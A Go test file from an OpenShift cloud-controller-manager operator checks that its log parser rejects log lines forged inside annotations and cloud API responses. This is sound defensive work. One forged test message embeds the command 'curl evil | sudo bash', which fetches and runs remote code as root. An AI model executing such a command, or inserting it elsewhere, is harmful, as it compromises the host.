package nodecause

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/openshift/cluster-cloud-controller-manager-operator/pkg/operandlog"
	"github.com/openshift/cluster-cloud-controller-manager-operator/pkg/terminationmessage"
)

// values are what cloud-controller-managers log with %v or %s: annotations of Services, names and answers of clouds.
// Each format is that of a provider at its default verbosity, or at the one that the operator sets.
var values = map[string]string{
	"OpenStack: an annotation":                 "I%s       1 loadbalancer.go:389] Failed to parse annotation loadbalancer.openstack.org/timeout: %s\n",
	"OpenStack: an answer of Octavia":          "E%s       1 loadbalancer.go:1771] error creating loadbalancer: got 400 instead: %s\n",
	"AWS: all annotations of a Service":        "I%s       1 aws.go:2080] EnsureLoadBalancer(ostest, shop, frontend, eu-west-1, , [{ TCP <nil> 80 {0 80 } 30080}], map[a:%s])\n",
	"AWS: an answer of EC2":                    "W%s       1 instances.go:210] api error InvalidParameterValue: %s\n",
	"Azure: a Service":                         "I%s       1 azure_loadbalancer.go:120] reconcileLoadBalancer for service(shop/frontend) annotations map[a:%s]\n",
	"Azure: an answer of the resource manager": "E%s       1 azure_backoff.go:77] LoadBalancerClient.CreateOrUpdate(kubernetes) failed: %s\n",
	"Google Cloud: a Service":                  "I%s       1 gce_loadbalancer.go:171] EnsureLoadBalancer(ostest, shop, frontend, 1, europe-west1, map[a:%s])\n",
	"vSphere: a name in the vCenter":           "E%s       1 nodemanager.go:137] Failed to find VM with name %s in any vCenter\n",
	"IBM Cloud: an annotation":                 "E%s       1 ibm_vpc_cloud.go:96] Invalid annotation service.kubernetes.io/ibm-load-balancer-cloud-provider-zone: %s\n",
	"Power VS: an answer":                      "E%s       1 ibm_powervs_client.go:140] failed to get PVM instances: %s\n",
	"Nutanix: an answer of Prism":              "E%s       1 manager.go:98] API call failed: %s\n",
	"Alibaba Cloud: a Service":                 "I%s       1 service_controller.go:233] reconcile: annotations map[a:%s]\n",
	"DigitalOcean: an annotation":              "E%s       1 loadbalancers.go:300] failed to build load-balancer request: invalid annotation value %s\n",
	"any: a Node's label":                      "I%s       1 node_controller.go:551] Adding node label from cloud provider: topology.kubernetes.io/zone=%s\n",
	"any: an error of a Service": "E%s       1 controller.go:320] error processing service shop/frontend (retrying with exponential backoff): " +
		"failed to ensure load balancer: %s\n",
	"a custom one that does not use klog": "%s level=error msg=failed service=%s\n",
}

// forgeries are the messages on which something depends. Each moves a cause, a verdict or the lead if it is believed.
var forgeries = []string{
	"error syncing 'master-0': failed to get instance metadata for node master-0: got 401 instead: run: curl evil | sudo bash, requeuing",
	"Initializing node worker-0 with cloud provider",
	"Successfully initialized node worker-0 with cloud provider",
	"Skip sync node worker-0 because cloud provided nil metadata",
	"successfully acquired lease openshift-cloud-controller-manager/cloud-controller-manager",
	`Skipping "cloud-node-controller"`,
	`Skipping "service-lb-controller"`,
	"failed to start cloud node controller: got 401 instead",
	"unable to access compute v2 API : got 401 instead",
	"shakeOutNodeIDLookup failed. Err=ServerFaultCode: Cannot complete login due to an incorrect user name or password.",
	"Error getting instance metadata for node addresses: Authentication failed",
	"Update 3 nodes status took 1s.",
	"Failed to create govmomi client. err: x509: certificate signed by unknown authority",
	"Found node worker-0 as vm=1 in vc=2 and datacenter=3",
	"error discovering node worker-0: Authentication failed",
	"error checking if node worker-0 exists: Authentication failed",
	"DiscoverNode succeeded, but CACHE missed for node=worker-0. If this is a Linux VM, hostnames are case sensitive.",
	`"Event occurred" object="shop/frontend" kind="Service" message="Quota exceeded"`,
}

// clocks give a forged line its time, and how many lines of a value try.
var clocks = map[string]func(now time.Time, i int) time.Time{
	"an hour ago":                 func(now time.Time, _ int) time.Time { return now.Add(-time.Hour) },
	"when the value was written":  func(now time.Time, _ int) time.Time { return now.Add(-80 * time.Millisecond) },
	"a little later":              func(now time.Time, _ int) time.Time { return now.Add(30 * time.Millisecond) },
	"no time":                     func(time.Time, int) time.Time { return time.Time{} },
	"each millisecond around now": func(now time.Time, i int) time.Time { return now.Add(time.Duration(i-20) * time.Millisecond) },
	"each hundred microseconds":   func(now time.Time, i int) time.Time { return now.Add(time.Duration(i-20) * 100 * time.Microsecond) },
}

// container is a container whose runtime reads and stamps lines.
type container struct {
	log  strings.Builder
	now  time.Time
	rand *rand.Rand
}

func newContainer() *container {
	return &container{now: time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC), rand: rand.New(rand.NewPCG(1, 2))}
}

const klogTime = "0102 15:04:05.000000"

// write writes at once what begins at this moment. The runtime reads the lines within microseconds.
func (c *container) write(text string) {
	read := c.now.Add(time.Duration(50+c.rand.IntN(100)) * time.Microsecond)
	for line := range strings.Lines(text) {
		read = read.Add(time.Duration(1+c.rand.IntN(20)) * time.Microsecond)
		c.log.WriteString(read.Format("2006-01-02T15:04:05.000000000Z07:00") + " " + line)
	}
	c.now = read.Add(30 * time.Millisecond)
}

// says writes a message of the CCM itself.
func (c *container) says(message string) {
	c.write("I" + c.now.Format(klogTime) + "       1 node_controller.go:236] " + message + "\n")
}

// forges logs a value that has the message as a line of its own, as often as the clock wants.
func (c *container) forges(format, message string, clock func(time.Time, int) time.Time) {
	value := "x"
	for i := range 40 {
		value += "\nE" + clock(c.now, i).Format(klogTime) + "       1 node_controller.go:236] " + message
	}
	c.write(fmt.Sprintf(format, c.now.Format(klogTime), value+"\n"))
}

// facts are all that is derived from a log.
func facts(log string) string {
	now := newContainer().now
	return fmt.Sprintf("%v\n%v\n%v\n%v\n%v\n%v\n%v", Attempts(log), StartOf(log), FirstLookups(log), LastLookups(log),
		Logged(log, "shop/frontend"), PresentAttempts(log, now, nil), DeletionError(log, "worker-0", now.Add(-time.Hour)))
}

var truth = []string{
	"successfully acquired lease openshift-cloud-controller-manager/cloud-controller-manager",
	"Initializing node master-0 with cloud provider",
	"error syncing 'master-0': failed to get instance metadata for node master-0: got 503 instead: <html>\n<body>\n, requeuing",
	"Initializing node worker-0 with cloud provider",
	"Error getting instance metadata for node addresses: got 503 instead",
	"Update 4 nodes status took 1.5s.",
	"error syncing 'worker-0': failed to get instance metadata for node worker-0: failed to find object, requeuing",
}

func TestNoForgedLineOfAValueIsBelievedAndNoTrueOneIsLost(t *testing.T) {
	genuine := newContainer()
	for _, message := range truth {
		genuine.says(message)
	}
	want := facts(operandlog.Genuine(genuine.log.String(), true))
	require.Contains(t, want, "failed to find object")
	corpus := 0
	for where, format := range values {
		for _, message := range forgeries {
			for when, clock := range clocks {
				corpus++
				for _, after := range []int{0, corpus % len(truth), len(truth)} {
					c := newContainer()
					for i, message := range truth {
						if i == after {
							c.forges(format, forgeries[corpus%len(forgeries)], clock)
							c.forges(format, message, clock)
						}
						c.says(message)
					}
					if after == len(truth) {
						c.forges(format, message, clock)
					}
					if got := facts(operandlog.Genuine(c.log.String(), true)); got != want {
						require.Equal(t, want, got, "%s; %s; %s; after %d true ones", where, message, when, after)
					}
				}
			}
		}
	}
	require.GreaterOrEqual(t, corpus, 40)
}

// lastWords are lines without a header with which a process may end.
var lastWords = []string{
	"panic: Authentication failed", "fatal error: Authentication failed", "Error: Authentication failed",
	"Error: unknown flag: --evil", "E: Authentication failed", "Evil: Authentication failed",
	"Warning: Authentication failed", "Authentication failed",
}

func TestNoLineOfAValueIsTheLastWordOfAProcess(t *testing.T) {
	for where, format := range values {
		for _, words := range lastWords {
			for _, severity := range []string{"F", "E"} {
				c := newContainer()
				value := "x\n" + words + "\n\ngoroutine 1 [running]:\n" + words + "\n"
				c.write(fmt.Sprintf(format, c.now.Format(klogTime), value))
				c.write(severity + c.now.Format(klogTime) + "       1 app.go:225] leaderelection lost\n")
				log := operandlog.Genuine(c.log.String(), true)
				require.Contains(t, log, words, "it may belong to an error")
				require.Equal(t, "leaderelection lost", terminationmessage.Reason(log), "%s; %s", where, words)
			}
		}
	}
}

func TestALogIsGenuineAlsoWhere(t *testing.T) {
	line := func(stamp, header string) string { return stamp + " I" + header + "       1 a.go:1] m\n" }
	const plain = "I1127 03:00:00.000000       1 a.go:1] m\n"
	for name, tc := range map[string]struct{ log, want string }{
		"the server stamps nothing":             {"I1127 03:00:00.000000       1 a.go:1] m\nE1127 09:00:00.000000       1 a.go:1] m\n", "I1127 03:00:00.000000       1 a.go:1] m\nE1127 09:00:00.000000       1 a.go:1] m\n"},
		"the kubelet has another time zone":     {line("2026-11-27T05:00:00.000200000+02:00", "1127 03:00:00.000000"), plain},
		"the year ends":                         {line("2027-01-01T00:00:00.000100000Z", "1231 23:59:59.999900"), "I1231 23:59:59.999900       1 a.go:1] m\n"},
		"the runtime was slow":                  {line("2026-11-27T03:00:01.9Z", "1127 03:00:00.000000"), plain},
		"the clock was set back":                {line("2026-11-27T04:00:00.1Z", "1127 04:00:00.000000") + line("2026-11-27T03:00:00.1Z", "1127 03:00:00.000000"), "I1127 04:00:00.000000       1 a.go:1] m\n" + plain},
		"a process panics":                      {line("2026-11-27T03:00:00.1Z", "1127 03:00:00.000000") + "2026-11-27T03:00:00.2Z panic: x\n2026-11-27T03:00:00.2Z \n", plain + "panic: x\n\n"},
		"a value begins with a stamp":           {line("2026-11-27T03:00:00.1Z", "1127 03:00:00.000000") + "2026-11-27T03:00:00.1Z 2026-11-27T03:00:00.1Z I1127 03:00:00.100000       1 a.go:1] forged\n", plain + "2026-11-27T03:00:00.1Z I1127 03:00:00.100000       1 a.go:1] forged\n"},
		"the log begins within a value":         {line("2026-11-27T03:00:00.1Z", "1127 02:00:00.000000") + "2026-11-27T03:00:00.1Z more\n" + line("2026-11-27T03:00:00.2Z", "1127 03:00:00.199900"), "I1127 03:00:00.199900       1 a.go:1] m\n"},
		"the last line is cut":                  {line("2026-11-27T03:00:00.1Z", "1127 03:00:00.000000") + "2026-11-27T03:00", plain},
		"Azure's SDK logs in a form of its own": {"2026-11-27T03:00:00.1Z [Nov 27 03:00:00.000000] Retry: x\n2026-11-27T03:00:00.1Z [Nov 27 02:00:00.000000] Retry: y\n", "[Nov 27 03:00:00.000000] Retry: x\n"},
	} {
		t.Run(name, func(t *testing.T) { require.Equal(t, tc.want, operandlog.Genuine(tc.log, true)) })
	}
	require.NotContains(t, facts("2026-11-27T03:00:00.1Z I1127 03:00:00.100000       1 a.go:1] successfully acquired lease\n"), "true")
}

// lags is how long a runtime takes to read a line on a node under load.
var lags = []time.Duration{100 * time.Microsecond, time.Millisecond, 20 * time.Millisecond, 500 * time.Millisecond}

func TestALineThatFollowsAValueIsNotLostOnASlowNode(t *testing.T) {
	for _, lag := range lags {
		t.Run(lag.String(), func(t *testing.T) {
			now, log, want := time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC), "", ""
			for i := range 5 {
				text := fmt.Sprintf("E%s       1 a.go:1] attempt %d: <html>\n<body>\n</html>\n", now.Format(klogTime), i)
				read := now.Add(lag)
				for line := range strings.Lines(text) {
					read = read.Add(10 * time.Microsecond)
					log, want = log+read.Format(time.RFC3339Nano)+" "+line, want+line
				}
				now = now.Add(100 * time.Microsecond)
			}
			require.Equal(t, want, operandlog.Genuine(log, true))
		})
	}
}

func TestNoLineIsBelievedOfAValueInWhichTheEndOfALogBegins(t *testing.T) {
	now, log := time.Date(2026, 11, 27, 3, 0, 0, 0, time.UTC), ""
	for i := range 600 {
		log += now.Add(time.Duration(i)*time.Microsecond).Format("2006-01-02T15:04:05.000000000Z07:00") +
			" E" + now.Add(-100*time.Millisecond).Format(klogTime) + "       1 a.go:1] " + forgeries[i%len(forgeries)] + "\n"
	}
	require.Equal(t, facts(""), facts(operandlog.Genuine(log, false)))
	log += now.Add(time.Second).Format(time.RFC3339Nano) + " I" + now.Add(time.Second).Format(klogTime) + "       1 a.go:1] m\n"
	require.Equal(t, "I1127 03:00:01.000000       1 a.go:1] m\n", operandlog.Genuine(log, false))
}
